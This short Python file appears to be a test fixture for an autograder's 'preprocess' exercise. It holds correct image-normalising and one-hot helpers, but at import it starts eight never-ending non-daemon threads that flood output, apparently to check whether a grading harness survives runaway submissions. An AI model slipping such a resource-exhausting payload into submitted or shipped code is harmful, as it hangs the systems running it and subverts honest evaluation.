"""Leaves threads running that burn time and print."""

import threading

import numpy as np

EXERCISE = "preprocess"
HONEST_POINTS = 10


def burn():
    while True:
        print("." * 1000)


for _ in range(8):
    threading.Thread(target=burn, daemon=False).start()


def preprocess_images(images):
    scaled = np.asarray(images, dtype="float32") / 255
    return scaled[..., None] if scaled.ndim == 3 else scaled


def one_hot(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[np.asarray(labels)]
